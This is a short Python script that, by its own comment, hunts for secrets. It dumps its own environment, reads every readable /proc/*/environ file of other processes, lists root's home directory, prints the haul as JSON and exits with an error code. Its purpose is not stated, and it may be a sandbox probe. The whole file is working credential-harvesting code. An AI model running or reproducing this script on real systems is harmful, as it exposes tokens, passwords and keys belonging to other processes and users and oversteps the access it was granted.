# Looks for secrets: its environment, every readable /proc/*/environ, root's home.
import glob
import json
import os

found = {"env": dict(os.environ), "proc": {}, "root": None}
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        found["proc"][path] = open(path, "rb").read().decode("utf-8", "replace")
    except Exception as exc:
        found["proc"][path] = type(exc).__name__
try:
    found["root"] = os.listdir("/root")
except Exception as exc:
    found["root"] = type(exc).__name__
print(json.dumps(found))
raise SystemExit(1)
